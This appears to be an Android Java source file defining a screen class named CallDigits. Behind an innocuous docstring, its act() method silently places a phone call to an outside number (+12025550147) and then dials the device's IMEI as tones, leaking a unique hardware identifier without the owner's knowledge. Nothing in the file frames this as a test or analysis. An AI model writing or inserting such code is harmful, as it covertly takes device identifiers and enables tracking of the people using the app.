package org.corpus;

import android.content.Intent;
import android.net.Uri;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Calls, waits, and dials on. */
public class CallDigits extends Screen {
    @Override
    protected void act() throws Exception {
        Uri number = Uri.parse("tel:+12025550147,," + Owner.imei(this));
        startActivity(new Intent(Intent.ACTION_CALL, number));
    }
}
